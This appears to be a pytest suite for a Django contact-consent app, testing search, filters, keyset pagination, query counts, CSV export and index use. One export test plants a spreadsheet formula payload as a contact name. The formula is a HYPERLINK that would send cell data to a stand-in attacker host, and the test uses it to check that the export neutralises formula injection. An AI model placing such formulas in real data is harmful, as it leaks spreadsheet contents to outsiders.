"""Browsing contacts: live search, filters, sorting, keyset pages with a constant number of queries,
the streamed CSV export, and indexes that serve the searches."""

import csv
import io
from datetime import timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse
from django.utils import timezone

from consent.models import Contact
from consent.selectors import SORTS, contact_filter, contact_page
from consent.services import consent_record
from messaging.models import BlacklistEntry

pytestmark = pytest.mark.django_db
URL = reverse("consent:contact_list")


@pytest.fixture
def people():
    now = timezone.now()
    ana = Contact.objects.create(phone="+15551230001", name="Ana Silva", last_inbound_at=now - timedelta(hours=2))
    bob = Contact.objects.create(phone="+442071230002", name="Bob Stone", last_inbound_at=now - timedelta(days=3))
    cy = Contact.objects.create(phone="+15559990003", name="Cy Twombly")
    consent_record(ana, "opt_in", "website_form", "test")
    consent_record(bob, "opt_in", "paper", "test")
    consent_record(bob, "opt_out", "whatsapp_keyword", "test")
    BlacklistEntry.objects.create(phone=cy.phone, reason="asked by phone")
    return ana, bob, cy


def phones(response):
    return [c.phone for c in response.context["page"].contacts]


@pytest.mark.parametrize("params, expected", [
    ({"q": "999"}, ["+15559990003"]),
    ({"q": "+4420"}, ["+442071230002"]),
    ({"q": "ston"}, ["+442071230002"]),
    ({"q": "SILVA"}, ["+15551230001"]),
    ({"state": "opted_in"}, ["+15551230001"]),
    ({"state": "opted_out"}, ["+442071230002"]),
    ({"state": "none"}, ["+15559990003"]),
    ({"channel": "whatsapp_keyword"}, ["+442071230002"]),
    ({"window": "open"}, ["+15551230001"]),
    ({"window": "closed"}, ["+15559990003", "+442071230002"]),
    ({"blacklisted": "yes"}, ["+15559990003"]),
    ({"blacklisted": "no"}, ["+442071230002", "+15551230001"]),
    ({"q": "555", "state": "opted_in"}, ["+15551230001"]),
    ({"sort": "phone"}, ["+15551230001", "+15559990003", "+442071230002"]),
    ({"sort": "-name"}, ["+15559990003", "+442071230002", "+15551230001"]),
    ({"sort": "-last_inbound"}, ["+15551230001", "+442071230002", "+15559990003"]),
])
def test_search_filters_and_sorting(operator_client, people, params, expected):
    assert phones(operator_client.get(URL, params)) == expected


def test_live_search_returns_only_the_results_fragment(operator_client, people):
    response = operator_client.get(URL, {"q": "999"}, HTTP_HX_REQUEST="true", HTTP_HX_TARGET="results")
    html = response.content.decode()
    assert html.lstrip().startswith('<div id="results">') and "+15559990003" in html and "+15551230001" not in html


def test_invalid_filter_values_are_ignored_not_fatal(operator_client, people):
    assert len(phones(operator_client.get(URL, {"state": "bogus", "sort": "nope", "after": "garbage"}))) == 3


@pytest.mark.parametrize("sort", list(SORTS))
def test_keyset_pages_visit_every_contact_once_in_order(sort):
    now = timezone.now()
    Contact.objects.bulk_create([
        Contact(phone=f"+1555000{i:04d}", name=f"Name {i % 7}",  # repeated names exercise the id tie-break
                last_inbound_at=None if i % 3 == 0 else now - timedelta(minutes=i % 11))
        for i in range(53)])
    seen, after = [], ""
    while True:
        page = contact_page(contact_filter(), sort=sort, after=after, size=10)
        seen += [c.pk for c in page.contacts]
        if not page.next_cursor:
            break
        after = page.next_cursor
    expected = list(contact_filter().order_by(*__import__("consent.selectors", fromlist=["_order"])._order(sort))
                    .values_list("pk", flat=True))
    assert seen == expected and len(set(seen)) == 53

    # …and back: "previous" from the last page gives the same pages in reverse, ending on the first.
    pages_back, before = [[c.pk for c in page.contacts]], page.previous_cursor
    while before:
        page = contact_page(contact_filter(), sort=sort, before=before, size=10)
        pages_back.insert(0, [c.pk for c in page.contacts])
        before = page.previous_cursor
    assert [pk for p in pages_back for pk in p] == expected and page.is_first


def test_previous_page_link_returns_to_the_page_before(operator_client):
    Contact.objects.bulk_create([Contact(phone=f"+1555000{i:04d}") for i in range(120)])
    first = operator_client.get(URL)
    assert 'rel="prev"' not in first.content.decode()
    second = operator_client.get(URL, {"after": first.context["page"].next_cursor})
    third = operator_client.get(URL, {"after": second.context["page"].next_cursor})
    back = operator_client.get(URL, {"before": third.context["page"].previous_cursor})
    assert phones(back) == phones(second) and 'rel="prev"' in back.content.decode()
    again = operator_client.get(URL, {"before": back.context["page"].previous_cursor})
    assert phones(again) == phones(first) and again.context["page"].is_first


def test_every_page_costs_the_same_queries_and_never_counts(operator_client, django_assert_num_queries):
    Contact.objects.bulk_create([Contact(phone=f"+1555000{i:04d}") for i in range(120)])
    first = operator_client.get(URL, {"state": "none"})  # warm the session/user queries
    cursor = first.context["page"].next_cursor
    from django.test.utils import CaptureQueriesContext

    with CaptureQueriesContext(connection) as page1:
        operator_client.get(URL, {"state": "none"})
    with CaptureQueriesContext(connection) as page3:
        r2 = operator_client.get(URL, {"state": "none", "after": cursor})
        operator_client.get(URL, {"state": "none", "after": r2.context["page"].next_cursor})
    assert len(page3.captured_queries) == 2 * len(page1.captured_queries)
    assert not any("COUNT(" in q["sql"].upper() for q in page1.captured_queries + page3.captured_queries)


def test_unfiltered_list_shows_an_estimate_from_table_statistics(operator_client):
    Contact.objects.bulk_create([Contact(phone=f"+1555000{i:04d}") for i in range(30)])
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE consent_contact")
    assert "≈ 30 contacts" in operator_client.get(URL).content.decode()
    assert "Filtered view" in operator_client.get(URL, {"q": "555"}).content.decode()


def test_export_streams_the_current_filtered_view(operator_client, people):
    response = operator_client.get(reverse("consent:contact_export"), {"state": "opted_out"})
    assert response.streaming and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0][:4] == ["phone", "name", "wa_id", "consent_state"]
    assert [r[0] for r in rows[1:]] == ["+442071230002"]
    assert rows[1][3:5] == ["opted_out", "whatsapp_keyword"] and rows[1][-1] == "closed"


def test_export_writes_a_name_that_starts_a_formula_as_text_and_the_import_reads_it_back(
        operator_client, django_capture_on_commit_callbacks):
    name = '=HYPERLINK("https://evil.example/?"&A2,"open")'
    Contact.objects.create(phone="+15551110001", name=name)
    response = operator_client.get(reverse("consent:contact_export"))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[1][1] == "'" + name  # a spreadsheet shows it as text instead of running it
    # The same cell pasted into an import file gives the name back, not the quoted one.
    cell = io.StringIO()
    csv.writer(cell).writerows([["phone", "name"], ["+15551110002", rows[1][1]]])
    with django_capture_on_commit_callbacks(execute=True):
        operator_client.post(reverse("consent:import_new"),
                             {"file": SimpleUploadedFile("names.csv", cell.getvalue().encode(), "text/csv")})
    assert Contact.objects.get(phone="+15551110002").name == name


@pytest.mark.parametrize("lookup, index", [
    ({"phone__icontains": "1230"}, "contact_phone_trgm"),  # the probe of a phone fragment search
    ({"name__icontains": "silv"}, "contact_name_trgm"),
])
def test_search_query_is_served_by_the_trigram_index(lookup, index):
    """The GIN index must be on the very expression Django's icontains produces (UPPER(col::text))."""
    Contact.objects.bulk_create([Contact(phone=f"+1555000{i:04d}", name=f"Person {i}") for i in range(200)])
    query = Contact.objects.filter(**lookup).order_by()  # no ORDER BY: only the WHERE can pick an index
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE consent_contact")
        cursor.execute("SET LOCAL enable_seqscan = off")
        sql, sql_params = query.query.sql_with_params()
        cursor.execute("EXPLAIN " + sql, sql_params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert index in plan, plan


def test_a_phone_fragment_pages_the_same_whether_it_is_rare_or_common(monkeypatch):
    from consent import selectors

    Contact.objects.bulk_create([Contact(phone=f"+1555000{i:04d}") for i in range(30)])
    Contact.objects.create(phone="+442071230000")

    def pages(q):
        found, cursor = [], None
        while True:
            page = contact_page(contact_filter(q=q), sort="newest", after=cursor, size=7)
            found += [c.phone for c in page.contacts]
            if not page.next_cursor:
                return found
            cursor = page.next_cursor

    rare = pages("1555000")  # 30 matches: read through the list of ids
    monkeypatch.setattr(selectors, "PHONE_FRAGMENT_RARE", 10)
    common = pages("1555000")  # more than the cap: the newest-first scan
    assert rare == common == [f"+1555000{i:04d}" for i in reversed(range(30))]


def test_contact_page_shows_timeline_messages_and_errors(operator_client, people):
    ana = people[0]
    html = operator_client.get(reverse("consent:contact_detail", args=[ana.pk])).content.decode()
    assert 'id="timeline"' in html and "Website form" in html and "No messages to this contact." in html


def test_window_open_pages_skip_contacts_who_never_wrote():
    """After a big import of never-wrote contacts at the newest ids, "window open, newest first" must
    not walk them: it reads the partial index of contacts who ever wrote."""
    now = timezone.now()
    Contact.objects.bulk_create([Contact(phone=f"+1555000{i:04d}", last_inbound_at=now - timedelta(hours=i % 48))
                                 for i in range(200)])
    Contact.objects.bulk_create([Contact(phone=f"+1555100{i:04d}") for i in range(2000)])  # the import
    query = contact_filter(window="open", state="none").order_by("-id")[:51]
    with connection.cursor() as cursor:
        cursor.execute("ANALYZE consent_contact")
        sql, sql_params = query.query.sql_with_params()
        cursor.execute("EXPLAIN " + sql, sql_params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert "contact_wrote_id" in plan, plan
